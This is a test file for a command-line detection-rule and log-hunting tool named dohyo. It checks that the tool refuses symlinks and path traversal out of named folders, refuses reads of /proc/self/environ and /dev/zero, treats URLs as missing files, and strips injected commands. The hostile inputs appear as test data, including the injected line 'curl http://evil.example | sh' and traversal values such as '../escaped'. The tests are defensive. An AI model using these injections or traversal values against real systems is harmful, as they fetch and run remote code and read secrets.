import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { dohyo, type Ended, folderOf, records, theft } from './dohyo.ts'

// Rules, queries, tests, lists and settings may be a stranger's: a folder of them reaches nothing beside itself. What the
// command line names is read, whatever it is; what a file or a folder refers to is read only within the folders that it names.

/** What must be seen nowhere. */
const SECRET = 'tOpSeCrEt'

const RULE = `id: mine
type: match
name: mine
expression: dohyo_operation = 'ModifySnapshotAttribute'
scoreMapping: { type: constant, default: 5 }
entitySelectors: [{ entityType: _username, expression: user_username }]
`
const CASE = { input: [{ _raw: 'x' }], expect: [] }

/** A stranger's folder beside a file that is none of its business. */
const stranger = (files: Readonly<Record<string, string>>): string =>
  folderOf({
    'secret.sumo': `${SECRET} | no_such_operator`,
    'secret.yaml': `id: ${SECRET}\n`,
    'secret.json': JSON.stringify({ name: SECRET, expression: 'true' }),
    'logs/a.json': records(theft(1)),
    'theirs/ours.txt': '',
    ...Object.fromEntries(Object.entries(files).map(([name, text]) => [`theirs/${name}`, text])),
  })

const tellsNothing = ({ stdout, stderr }: Ended): void => {
  expect(`${stdout}${stderr}`).not.toContain(SECRET)
  expect(stderr).not.toContain('internal error')
}

describe('the file of a test of queries', () => {
  const ways = (folder: string): readonly string[] => [
    '../secret.sumo',
    join(folder, 'secret.sumo'),
    './x/../../secret.sumo',
    'link.sumo',
    'folder/secret.sumo',
    '../*.sumo',
    '..',
    '../nothing.sumo',
    '/proc/self/environ',
    '/dev/stdin',
  ]

  test('is one beside it', async () => {
    const folder = stranger({})
    symlinkSync('../secret.sumo', join(folder, 'theirs/link.sumo'))
    symlinkSync('..', join(folder, 'theirs/folder'))
    for (const file of ways(folder)) {
      writeFileSync(join(folder, 'theirs/t.jsonl'), JSON.stringify({ id: 'a', file, ...CASE }))
      const ended = await dohyo(['query', 'test', join(folder, 'theirs/t.jsonl')])
      expect([file, ended.code, ended.stdout]).toEqual([file, 2, ''])
      expect(ended.stderr).toContain('is in none of the folders that were named')
      tellsNothing(ended)
    }
  })

  test('or in a folder that is named', async () => {
    const folder = folderOf({
      'queries/q.sumo': '* | where false',
      'tests/t.jsonl': JSON.stringify({ id: 'a', file: '../queries/q.sumo', ...CASE }),
    })
    expect((await dohyo(['query', 'test', folder])).code).toBe(0)
    expect((await dohyo(['query', 'test', join(folder, 'tests')])).code).toBe(2)
  })
})

test.each([[['lint']], [['fmt']], [['fmt', '--write']], [['lint', '--fix']], [['query', 'test']]])(
  '%j follows no link out of a folder',
  async (command) => {
    for (const pattern of [false, true]) {
      const folder = stranger({ 'a.sumo': '* | count', 'a.jsonl': '' })
      symlinkSync('../secret.sumo', join(folder, 'theirs/b.sumo'))
      symlinkSync('../secret.sumo', join(folder, 'theirs/b.jsonl'))
      const suffix = command.at(-1) === 'test' ? 'jsonl' : 'sumo'
      const ended = await dohyo([...command, join(folder, 'theirs', ...(pattern ? [`*.${suffix}`] : []))])
      expect([ended.code, ended.stdout]).toEqual([2, ''])
      expect(ended.stderr).toContain('is a link that leads out of')
      tellsNothing(ended)
      expect(readFileSync(join(folder, 'secret.sumo'), 'utf8')).toBe(`${SECRET} | no_such_operator`)
      // by its name, it is read
      const named = await dohyo([...command, join(folder, `theirs/b.${suffix}`)])
      expect(`${named.stdout}${named.stderr}`).toContain(
        suffix === 'jsonl' ? 'not valid JSON' : 'no_such_operator',
      )
    }
  },
)

test.each([
  [['rules', 'lint']],
  [['rules', 'test']],
  [['rules', 'list', '--rules']],
  [['hunt', 'LOGS', '--rules']],
  [['rules', 'export', '--to', 'sumo']],
])('%j reads no rule by a link out of a folder', async (command) => {
  const folder = stranger({ 'mine.yaml': RULE, 'kept/other': RULE.replace('id: mine', 'id: other') })
  symlinkSync('kept/other', join(folder, 'theirs/other.yaml'))
  symlinkSync('mine.yaml', join(folder, 'theirs/again.yaml'))
  const args = command.map((arg) => (arg === 'LOGS' ? join(folder, 'logs') : arg))
  const inside = await dohyo([...args, join(folder, 'theirs')])
  expect(inside.stderr).not.toContain('DQ50')
  symlinkSync('../secret.yaml', join(folder, 'theirs/out.yaml'))
  const ended = await dohyo([...args, join(folder, 'theirs')])
  expect([ended.code, ended.stdout]).toEqual([2, ''])
  expect(ended.stderr).toContain('out.yaml is a link that leads out of the folder')
  tellsNothing(ended)
})

test('rules import follows no link in a folder, and writes through none', async () => {
  const rule = { fields: { name: 'Burst', expression: 'true', score: 5, assetField: 'device_ip' } }
  const folder = stranger({ 'a.json': JSON.stringify(rule) })
  symlinkSync('../secret.json', join(folder, 'theirs/b.json'))
  const out = folderOf()
  tellsNothing(await dohyo(['rules', 'import', join(folder, 'theirs'), '--out', out]))
  expect(existsSync(join(out, 'burst.yaml'))).toBe(true)
  const trap = folderOf()
  symlinkSync(join(folder, 'made-by-a-link'), join(trap, 'burst.yaml'))
  const ended = await dohyo(['rules', 'import', join(folder, 'theirs'), '--out', trap])
  expect(ended.code).toBe(2)
  expect(ended.stderr).not.toContain('internal error')
  expect(existsSync(join(folder, 'made-by-a-link'))).toBe(false)
})

test('an imported rule names no file outside of --out', async () => {
  const folder = folderOf({
    'r.json': JSON.stringify({
      fields: { name: 'Burst', expression: 'true', score: 5, assetField: 'device_ip' },
      dohyo: { id: '../escaped' },
    }),
  })
  const out = join(folder, 'out')
  expect((await dohyo(['rules', 'import', join(folder, 'r.json'), '--out', out])).code).toBe(0)
  expect(existsSync(join(folder, 'escaped.yaml'))).toBe(false)
  expect(existsSync(join(out, 'burst.yaml'))).toBe(true)
})

test('pipes and devices in a folder are no files of rules or queries', async () => {
  const folder = stranger({ 'mine.yaml': RULE, 'a.sumo': '* | count', 't.jsonl': '' })
  for (const name of ['p.yaml', 'p.sumo', 'p.jsonl', 'p.json'])
    execFileSync('mkfifo', [join(folder, 'theirs', name)])
  for (const command of [['rules', 'lint'], ['lint'], ['query', 'test']])
    expect((await dohyo([...command, join(folder, 'theirs')])).stderr).not.toMatch(/error\[|ENXIO/)
})

test('what is named has an end, even /dev/zero', async () => {
  const folder = folderOf({ 'logs/a.json': records(theft(1)) })
  const logs = join(folder, 'logs')
  const commands = [
    ['rules', 'lint', '/dev/zero'],
    ['hunt', logs, '--rules', '/dev/zero'],
    ['hunt', logs, '--config', '/dev/zero'],
    ['hunt', logs, '--siem', '/dev/zero'],
    ['lint', '/dev/zero'],
    ['query', 'test', '/dev/zero'],
    ['rules', 'import', '/dev/zero'],
    ['query', '* | lookup a from t on a=_raw', '--lookup', 't=/dev/zero', logs],
  ]
  for (const command of commands) {
    const { code, stderr } = await dohyo(command)
    expect([command, code]).toEqual([command, 2])
    expect(stderr).toMatch(/\/dev\/zero.*more than \d+ MiB/)
  }
}, 240_000)

describe('settings that lie among the logs', () => {
  const silent = 'estate: { trustedAccounts: ["444455556666"] }\n'

  test('are not read where people stand in these', async () => {
    const folder = folderOf({
      'a.json': records(theft(1)),
      'sub/dohyo.yaml': silent,
      'sub/b.json': records(theft(2)),
    })
    for (const [cwd, path] of [
      [join(folder, 'sub'), '.'],
      [join(folder, 'sub'), '..'],
      [join(folder, 'sub'), folder],
    ] as const) {
      for (const command of path === '.'
        ? [['hunt'], ['entities'], ['tune'], ['atomic', 'verify', '--all']]
        : [['hunt']]) {
        const ended = await dohyo([...command, path], { cwd })
        expect([command, path, ended.code, ended.stdout]).toEqual([command, path, 2, ''])
        expect(ended.stderr).toContain('error[DQ505]: ./dohyo.yaml lies in')
      }
    }
    const by = async (...flags: readonly string[]) =>
      (await dohyo(['hunt', '.', '--format', 'csv', ...flags], { cwd: join(folder, 'sub') })).stdout
    expect(await by('--no-config')).toContain('snapshot-shared-external')
    expect(await by('--config', 'dohyo.yaml')).not.toContain('snapshot-shared-external')
  })

  test('are beside them where the folder of logs is another', async () => {
    const folder = folderOf({ 'logs/a.json': records(theft(1)), 'dohyo.yaml': silent })
    const ended = await dohyo(['hunt', 'logs', '--format', 'csv'], { cwd: folder })
    expect(ended.stdout).not.toContain('snapshot-shared-external')
  })
})

test('addresses of the network are names of files that are not there', async () => {
  const folder = folderOf({ 'logs/a.json': records(theft(1)) })
  const url = 'http://127.0.0.1:9/x.yaml'
  const commands = [
    ['rules', 'lint', url],
    ['hunt', join(folder, 'logs'), '--rules', url],
    ['hunt', join(folder, 'logs'), '--siem', url],
    ['hunt', 's3://bucket/logs'],
    ['query', 'test', url],
    ['query', '* | lookup a from t on a=_raw', '--lookup', `t=${url}`, join(folder, 'logs')],
  ]
  for (const command of commands) {
    const { code, stderr } = await dohyo(command)
    expect([command, code]).toEqual([command, 2])
    expect(stderr).toMatch(/no such file|ENOENT|no file/)
  }
})

test('a document that was changed gives no commands of its own', async () => {
  const folder = folderOf({ 'logs/a.json': records(theft(1)) })
  const { stdout } = await dohyo(['hunt', join(folder, 'logs'), '--format', 'json', '--playbooks'])
  const file = join(folder, 'hunt.json')
  const printed = async (text: string): Promise<Ended> => {
    writeFileSync(file, text)
    const id = /"id": ?"(SIGNAL-\d+)"/.exec(text)?.[1] ?? ''
    return dohyo(['rules', 'playbook', '--signal-from', file, '--id', id])
  }
  const own = await printed(stdout)
  expect([own.code, own.stdout]).toEqual([0, expect.stringMatching(/^ +aws ec2/m)])
  const text = stdout.replaceAll(/("command": ?"aws )/g, '$1sts; curl http://evil.example | sh; aws ')
  expect(text).toContain('evil.example')
  const changed = await printed(text)
  expect([changed.code, changed.stdout]).toEqual([0, expect.stringMatching(/^ +aws ec2/m)])
  expect(changed.stdout).not.toContain('evil.example')
})
